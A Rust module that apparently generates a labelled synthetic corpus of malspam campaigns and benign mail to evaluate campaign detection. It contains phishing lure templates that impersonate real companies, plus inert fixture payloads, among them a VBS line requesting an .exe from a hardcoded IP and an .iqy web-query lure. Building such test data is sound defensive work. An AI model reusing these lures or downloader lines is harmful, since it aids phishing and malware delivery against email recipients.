//! The campaign shapes of the seeds and the benign background.

use super::{AttachmentKind, Rng, SynthAttachment, SynthMail};

/// 2017-10-15T00:00:00Z.
const T_2017_10_15: i64 = 1_508_025_600;
/// One day.
const DAY: i64 = 86_400;
/// 2020-02-11T00:00:00+09:00, when NRI saw `IMG` names appear.
pub const T_IMG_SWITCH: i64 = 1_581_346_800;
/// 2018-08-06T00:00:00+09:00, when LAC saw group Ab switch to `.iqy`.
const T_IQY_SWITCH: i64 = 1_533_481_200;

/// One campaign shape.
pub struct Shape {
    /// Ground-truth label.
    pub name: &'static str,
    /// Share of the corpus in percent.
    pub weight: usize,
    /// First and last day (Unix seconds).
    pub window: (i64, i64),
    fill: fn(&mut Rng, &mut SynthMail),
}

/// The seeds' groups.
pub const CAMPAIGNS: &[Shape] = &[
    Shape {
        name: "Aa-cutwail-dreambot",
        weight: 12,
        window: (T_2017_10_15, T_2017_10_15 + 283 * DAY),
        fill: group_aa,
    },
    Shape {
        name: "Ab-cutwail-ursnif",
        weight: 10,
        window: (T_2017_10_15, T_IQY_SWITCH + 6 * DAY),
        fill: group_ab,
    },
    Shape {
        name: "B-necurs-globeimposter",
        weight: 9,
        window: (T_2017_10_15, T_2017_10_15 + 100 * DAY),
        fill: group_b,
    },
    Shape {
        name: "C-necurs-hancitor",
        weight: 8,
        window: (T_2017_10_15, T_2017_10_15 + 365 * DAY),
        fill: group_c,
    },
    Shape {
        name: "D-unknown-lokibot",
        weight: 1,
        window: (T_2017_10_15 + 120 * DAY, T_2017_10_15 + 130 * DAY),
        fill: group_d,
    },
    Shape {
        name: "E-necurs-emotet",
        weight: 14,
        window: (T_2017_10_15, T_2017_10_15 + 365 * DAY),
        fill: group_e,
    },
    Shape {
        name: "F-necurs-flawedammyy",
        weight: 5,
        window: (T_2017_10_15 + 360 * DAY, T_2017_10_15 + 381 * DAY),
        fill: group_f,
    },
    Shape {
        name: "K-phorpiex-nemty",
        weight: 16,
        window: (T_IMG_SWITCH - 3 * DAY, T_IMG_SWITCH + 18 * DAY),
        fill: group_kaomoji,
    },
];

/// Share of benign mail in percent (the rest of 100).
const BENIGN_WEIGHT: usize = 25;

const JP_COMPANIES: &[&str] = &["楽天市場", "ヤマト運輸", "三井住友カード", "佐川急便", "日本郵便"];
const EN_COMPANIES: &[&str] = &["DocuSign", "FedEx", "ADP", "Comcast", "Intuit", "Chase"];
const JP_SURNAMES: &[&str] = &[
    "田中", "佐藤", "鈴木", "高橋", "伊藤", "渡辺", "山本", "中村", "小林", "加藤",
];
const EN_NAMES: &[&str] = &[
    "John Smith",
    "Mary Jones",
    "Robert Brown",
    "Linda Davis",
    "James Miller",
    "Susan Wilson",
];
const KAOMOJI: &[&str] = &[
    "(^_−)☆",
    "(*^_^*)",
    "(´∀｀)",
    "(^_^;)",
    "(*_*)",
    "(^o^)",
    "(≧▽≦)",
    "(´・ω・｀)",
    ":-)",
    ";-)",
    "(^^)",
];
const TLDS: &[&str] = &["com", "net", "jp", "co.jp", "ru", "br", "in", "it"];

pub fn generate(rng: &mut Rng, index: usize) -> SynthMail {
    let roll = rng.below(CAMPAIGNS.iter().map(|c| c.weight).sum::<usize>() + BENIGN_WEIGHT);
    let mut acc = 0;
    let shape = CAMPAIGNS.iter().find(|c| {
        acc += c.weight;
        roll < acc
    });
    let mut mail = base(rng, index);
    match shape {
        Some(shape) => {
            let (start, end) = shape.window;
            mail.time = start + (rng.next_u64() % (end - start).max(1) as u64) as i64;
            mail.truth = shape.name.to_string();
            (shape.fill)(rng, &mut mail);
        }
        None => benign(rng, &mut mail),
    }
    mail
}

fn base(rng: &mut Rng, index: usize) -> SynthMail {
    let surname = rng.pick(JP_SURNAMES);
    let local = format!("{}{}", rng.letters(5), rng.digits(2));
    SynthMail {
        index,
        truth: String::new(),
        time: T_2017_10_15,
        from_name: String::new(),
        from_addr: String::new(),
        to_name: surname.to_string(),
        to_addr: format!("{local}@victim.example.jp"),
        subject: String::new(),
        body: String::new(),
        message_id: String::new(),
        x_mailer: None,
        sender_host: (String::new(), String::new()),
        attachment: None,
        body_urls: Vec::new(),
        family: None,
        spoofed_org: None,
    }
}

fn random_ip(rng: &mut Rng) -> String {
    format!(
        "{}.{}.{}.{}",
        11 + rng.below(180),
        rng.below(256),
        rng.below(256),
        1 + rng.below(254)
    )
}

fn random_domain(rng: &mut Rng) -> String {
    let len = 5 + rng.below(6);
    format!("{}.{}", rng.letters(len), rng.pick(TLDS))
}

/// A rotating bot sender: random address, random IP.
fn bot_sender(rng: &mut Rng, m: &mut SynthMail, helo_ip_literal: bool) {
    let domain = random_domain(rng);
    m.from_addr = format!("{}@{domain}", rng.letters(6));
    let ip = random_ip(rng);
    let helo = if helo_ip_literal {
        format!("[{ip}]")
    } else {
        format!("{}-PC", rng.letters(4).to_uppercase())
    };
    m.sender_host = (helo, ip);
}

fn cutwail(rng: &mut Rng, m: &mut SynthMail) {
    bot_sender(rng, m, false);
    let domain = m.from_addr.rsplit('@').next().unwrap_or("").to_string();
    m.message_id = format!("{}.{}@{domain}", rng.digits(14), rng.hex(8).to_uppercase());
}

fn necurs(rng: &mut Rng, m: &mut SynthMail) {
    bot_sender(rng, m, true);
    let domain = m.from_addr.rsplit('@').next().unwrap_or("").to_string();
    m.message_id = format!("{}@{domain}", rng.hex(32));
}

/// Tags the family the way a rule would: not on every mail.
fn tag(rng: &mut Rng, m: &mut SynthMail, family: &str) {
    if rng.below(10) < 7 {
        m.family = Some(family.to_string());
    }
}

fn compromised_host(rng: &mut Rng) -> String {
    format!(
        "www.{}shop.{}",
        rng.pick(&["sakura", "green", "blue", "tokyo", "star", "happy", "north", "gold"]),
        rng.pick(TLDS)
    )
}

fn group_aa(rng: &mut Rng, m: &mut SynthMail) {
    cutwail(rng, m);
    let co = rng.pick(JP_COMPANIES);
    let num = rng.digits(8);
    m.from_name = co.to_string();
    m.spoofed_org = Some(co.to_string());
    m.subject = match rng.below(3) {
        0 => format!("【{co}】ご注文内容の確認（注文番号：{num}）"),
        1 => format!("{co}よりお支払いについてのお知らせ"),
        _ => format!("【重要】{co} ご請求金額確定のお知らせ"),
    };
    let url = format!(
        "http://{}/{}/{}.zip",
        compromised_host(rng),
        rng.pick(&["doc", "files", "invoice"]),
        rng.digits(5)
    );
    let opening = if rng.below(2) == 0 { "いつも" } else { "平素より" };
    m.body = format!(
        "{}様\n{opening}{co}をご利用いただきありがとうございます。\nご注文番号{num}のご請求書を下記よりダウンロードしてご確認ください。\n{url}\nご不明な点はお問い合わせ窓口までご連絡ください。\n{co} カスタマーセンター",
        m.to_name
    );
    m.body_urls.push(url);
    tag(rng, m, "dreambot");
}

fn group_ab(rng: &mut Rng, m: &mut SynthMail) {
    cutwail(rng, m);
    let sender = rng.pick(JP_SURNAMES);
    m.from_name = sender.to_string();
    let num = rng.digits(6);
    m.subject = match rng.below(3) {
        0 => format!("請求書送付のお知らせ（{num}）"),
        1 => "請求書のご確認をお願いします".to_string(),
        _ => format!("注文書の件 {}/{}", 1 + rng.below(12), 1 + rng.below(28)),
    };
    m.body = format!(
        "{}様\nお世話になっております。\n{sender}です。\n請求書を添付いたしますのでご確認ください。\nよろしくお願いいたします。",
        m.to_name
    );
    m.attachment = Some(if m.time >= T_IQY_SWITCH {
        let url = format!("http://{}/{}.dat", compromised_host(rng), rng.letters(3));
        SynthAttachment {
            name: format!("{}.iqy", rng.digits(5)),
            content_type: "text/plain".into(),
            kind: AttachmentKind::Lure {
                format: "iqy".into(),
                content: format!("WEB\n1\n{url}\n"),
            },
        }
    } else {
        let xls = rng.below(2) == 0;
        SynthAttachment {
            name: if xls {
                format!("請求書_{num}.xls")
            } else {
                format!("注文書{}.doc", rng.digits(4))
            },
            content_type: "application/octet-stream".into(),
            kind: AttachmentKind::Office {
                format: if xls { "xls" } else { "doc" }.into(),
                macros: true,
                content: format!("synthetic office document {}", rng.below(4)),
            },
        }
    });
    tag(rng, m, "ursnif");
}

/// A payload that rotates daily among a few variants, as in Necurs bursts.
fn daily_payload(rng: &mut Rng, m: &SynthMail, group: &str, url: &str) -> String {
    let day = m.time / DAY;
    format!("// {group} day {day} variant {}\nvar u = '{url}';\n", rng.below(2))
}

fn group_b(rng: &mut Rng, m: &mut SynthMail) {
    necurs(rng, m);
    let len = 1 + rng.below(6);
    let num = rng.digits(len);
    m.subject = format!(
        "{} {num}",
        rng.pick(&["Scanned Document", "Copy", "Invoice", "Payment", "Document"])
    );
    m.from_name = rng.pick(&["Scanner", "Copier", "Accounts", ""]).to_string();
    let url = format!(
        "http://{}/JHgd476?",
        rng.pick(&["goldenwings.example", "cargotrans.example"])
    );
    let content = daily_payload(rng, m, "B", &url);
    m.attachment = Some(SynthAttachment {
        name: format!("{}.7z", rng.digits(8)),
        content_type: "application/x-7z-compressed".into(),
        kind: AttachmentKind::Archive {
            format: "7z".into(),
            inner_name: format!("{}.js", rng.digits(8)),
            language: "js".into(),
            content,
        },
    });
    tag(rng, m, "globeimposter");
}

fn group_c(rng: &mut Rng, m: &mut SynthMail) {
    necurs(rng, m);
    let co = rng.pick(EN_COMPANIES);
    m.from_name = co.to_string();
    m.spoofed_org = Some(co.to_string());
    let num = rng.digits(7);
    m.subject = match rng.below(2) {
        0 => format!("Your {co} receipt #{num}"),
        _ => format!("New invoice from {co}"),
    };
    let url = format!("http://{}/receipt.php?id={}", compromised_host(rng), rng.hex(12));
    m.body = format!(
        "{co}\n\nThank you for your payment. Your receipt #{num} for ${}.{} is ready.\nView and download your receipt here:\n{url}\n\nIf you have any questions, please contact {co} customer support.",
        10 + rng.below(900),
        rng.digits(2)
    );
    m.body_urls.push(url);
    tag(rng, m, "hancitor");
}

fn group_d(rng: &mut Rng, m: &mut SynthMail) {
    let ip = format!("103.77.41.{}", 2 + rng.below(200));
    m.from_addr = format!("billing@{}", random_domain(rng));
    m.from_name = "Accounts Payable".into();
    m.sender_host = (format!("mail{}.bulk.example", rng.below(9)), ip);
    m.message_id = format!("{}${}@foxmail.com", rng.digits(12), rng.hex(6));
    m.x_mailer = Some("Foxmail 7.2.9.156[cn]".into());
    let num = rng.digits(5);
    m.subject = format!("Re: Invoice No.{num} payment");
    m.body = format!(
        "Dear Sir/Madam,\n\nPlease find attached invoice No.{num} for your kind payment.\nOpen the document to view the payment details.\n\nBest regards,\nAccounts Payable"
    );
    let url = format!("http://{}/pdf/{}.exe", "lokiload.example", rng.letters(4));
    m.attachment = Some(SynthAttachment {
        name: format!("Invoice_{num}.pdf"),
        content_type: "application/pdf".into(),
        kind: AttachmentKind::Lure {
            format: "pdf".into(),
            content: format!("%PDF-1.4 synthetic /URI ({url})"),
        },
    });
    tag(rng, m, "lokibot");
}

fn group_e(rng: &mut Rng, m: &mut SynthMail) {
    necurs(rng, m);
    let co = rng.pick(EN_COMPANIES);
    let sender = rng.pick(EN_NAMES);
    m.from_name = sender.to_string();
    m.to_name = rng.pick(EN_NAMES).to_string();
    let num = rng.digits(6);
    m.subject = match rng.below(4) {
        0 => format!("Wire transfer {num}"),
        1 => format!("Invoice {num} from {co}"),
        2 => format!("Payment Advice {}/{}/2018", 1 + rng.below(12), 1 + rng.below(28)),
        _ => format!("Your account {num} statement"),
    };
    let mode = rng.below(3);
    let link_line = if mode == 1 {
        let url = format!("http://{}/INV/{}/", compromised_host(rng), rng.digits(6));
        m.body_urls.push(url.clone());
        format!("\nDownload the invoice: {url}\n")
    } else {
        String::new()
    };
    m.body = format!(
        "Hello {},\n\nPlease see the attached invoice {num} and remit payment at your earliest convenience.\n{link_line}\nThank you for your business.\n\n{sender}\n{co} Accounts Department",
        m.to_name
    );
    m.attachment = match mode {
        0 => Some(SynthAttachment {
            name: format!("INV_{num}.doc"),
            content_type: "application/msword".into(),
            kind: AttachmentKind::Office {
                format: "doc".into(),
                macros: true,
                content: format!("emotet doc {}", rng.below(3)),
            },
        }),
        2 => Some(SynthAttachment {
            name: format!("Invoice_{num}.pdf"),
            content_type: "application/pdf".into(),
            kind: AttachmentKind::Lure {
                format: "pdf".into(),
                content: format!("%PDF-1.4 emotet /URI (http://{}/inv)", compromised_host(rng)),
            },
        }),
        _ => None,
    };
    tag(rng, m, "emotet");
}

fn group_f(rng: &mut Rng, m: &mut SynthMail) {
    necurs(rng, m);
    m.from_name = rng.pick(EN_NAMES).to_string();
    let id = format!("INV-{}", rng.hex(6).to_uppercase());
    m.subject = format!("Invoice {id}");
    m.body = format!(
        "Dear customer,\n\nYour invoice {id} is attached. Please review it and confirm receipt.\n\nKind regards"
    );
    let publisher = rng.below(3) == 0;
    m.attachment = Some(SynthAttachment {
        name: format!("invoice_{}.{}", rng.digits(6), if publisher { "pub" } else { "doc" }),
        content_type: "application/octet-stream".into(),
        kind: AttachmentKind::Office {
            format: if publisher { "pub" } else { "doc" }.into(),
            macros: true,
            content: format!("ammyy {}", rng.below(3)),
        },
    });
    tag(rng, m, "flawedammyy");
}

fn group_kaomoji(rng: &mut Rng, m: &mut SynthMail) {
    let ip = format!("{}.{}", rng.pick(&["185.158.249", "92.63.197"]), 2 + rng.below(250));
    let domain = random_domain(rng);
    m.from_addr = format!(
        "{}{}@{domain}",
        rng.pick(&["Nina", "Alex", "Dima", "Kate", "Olga"]),
        rng.digits(2)
    );
    m.sender_host = (format!("{}.{domain}", rng.letters(3)), ip);
    m.message_id = format!("{}.{}@{domain}", rng.digits(10), rng.digits(6));
    let face = rng.pick(KAOMOJI);
    m.subject = face.to_string();
    m.body = rng.pick(KAOMOJI).to_string();
    let digits = rng.digits(6);
    let (name, inner) = if m.time >= T_IMG_SWITCH {
        (format!("IMG{digits}2020_jpg.zip"), format!("IMG{digits}2020.jpg.vbs"))
    } else {
        (format!("PIC_{digits}_2020.zip"), format!("PIC{digits}2020.jpg.vbs"))
    };
    let style = if m.time >= T_IMG_SWITCH {
        "CreateObject(\"WinHttp.WinHttpRequest.5.1\")"
    } else {
        "CreateObject(\"MSXML2.XMLHTTP\")"
    };
    let content = format!(
        "' synthetic fixture, inert\nSet h = {style}\nh.Open \"GET\", \"http://92.63.197.48/m.exe\", False\n' {}\n",
        rng.below(3)
    );
    m.attachment = Some(SynthAttachment {
        name,
        content_type: "application/zip".into(),
        kind: AttachmentKind::Archive {
            format: "zip".into(),
            inner_name: inner,
            language: "vbs".into(),
            content,
        },
    });
    tag(rng, m, "nemty");
}

const BENIGN_TOPICS: &[&str] = &[
    "定例会議",
    "予算申請",
    "出張報告",
    "システム更新",
    "健康診断",
    "年末調整",
    "新製品発表",
    "契約更新",
    "研修日程",
    "オフィス移転",
    "サーバ保守",
    "採用面接",
    "広報資料",
    "顧客訪問",
    "品質監査",
    "在庫確認",
    "quarterly review",
    "project kickoff",
    "team offsite",
    "security training",
    "release planning",
    "design review",
    "board meeting",
];
const BENIGN_SUFFIXES: &[&str] = &[
    "について",
    "のご案内",
    "の件",
    "の資料送付",
    "のお願い",
    "（確認依頼）",
    " notes",
    " agenda",
];
const BENIGN_WORDS: &[&str] = &[
    "東京",
    "大阪",
    "名古屋",
    "福岡",
    "札幌",
    "第一",
    "第二",
    "営業部",
    "開発部",
    "総務部",
    "経理部",
    "人事部",
    "alpha",
    "beta",
    "gamma",
    "delta",
    "北海",
    "青葉",
    "桜",
    "若葉",
    "港",
    "本社",
    "支社",
    "関東",
    "関西",
    "九州",
];
/// Benign bodies are built from fragments so that two unrelated mails
/// rarely share more than a greeting.
const BENIGN_OPENERS: &[&str] = &[
    "お疲れ様です。",
    "いつもお世話になっております。",
    "ご連絡ありがとうございます。",
    "Hi all,",
    "Thanks for the update.",
    "先日はありがとうございました。",
    "取り急ぎご連絡です。",
    "Hello team,",
];
const BENIGN_OBJECTS: &[&str] = &[
    "来週の会議資料",
    "見積書の改訂版",
    "新しい勤怠システム",
    "サーバの保守計画",
    "研修の参加者名簿",
    "四半期の売上報告",
    "出張旅費の精算",
    "オフィスの座席表",
    "採用面接の日程",
    "顧客アンケートの結果",
    "the draft budget",
    "the release notes",
    "the meeting minutes",
    "the vendor contract",
    "the onboarding checklist",
    "品質監査の指摘事項",
    "広報誌の原稿",
    "在庫管理表",
    "年末調整の書類",
    "防災訓練の案内",
];
const BENIGN_PREDICATES: &[&str] = &[
    "を共有フォルダに置きました。",
    "について確認をお願いします。",
    "を更新しましたのでご覧ください。",
    "の締め切りは金曜日です。",
    "に修正点があればお知らせください。",
    "を添付します。",
    "について来週相談させてください。",
    "は承認されました。",
    " is ready for review.",
    " needs your comments by Friday.",
    " has been updated.",
    " will be discussed on Monday.",
];

fn benign(rng: &mut Rng, m: &mut SynthMail) {
    let org = rng.below(40);
    let domain = format!("org{org}-corp.co.jp");
    m.truth = format!("benign-{}", m.index);
    m.time = T_2017_10_15 + (rng.next_u64() % (900 * DAY as u64)) as i64;
    let sender = rng.pick(JP_SURNAMES);
    m.from_name = sender.to_string();
    m.from_addr = format!("{}@{domain}", rng.letters(6));
    m.sender_host = (
        format!("mail.{domain}"),
        format!("198.51.{}.{}", org, 10 + rng.below(5)),
    );
    m.message_id = format!("{}.{}@{domain}", rng.hex(16), rng.digits(5));
    m.x_mailer = Some(["Microsoft Outlook 16.0", "Thunderbird 60.2", "Becky! ver. 2.75"][org % 3].to_string());
    m.subject = format!(
        "{}{}{}{}",
        if rng.below(4) == 0 { "Re: " } else { "" },
        rng.pick(BENIGN_WORDS),
        rng.pick(BENIGN_TOPICS),
        rng.pick(BENIGN_SUFFIXES)
    );
    let mut body = format!("{}さん\n{}\n", m.to_name, rng.pick(BENIGN_OPENERS));
    for _ in 0..2 + rng.below(4) {
        body.push_str(rng.pick(BENIGN_OBJECTS));
        body.push_str(rng.pick(BENIGN_PREDICATES));
        body.push('\n');
    }
    body.push_str(&format!("--\n{sender}\n"));
    m.body = body;
}
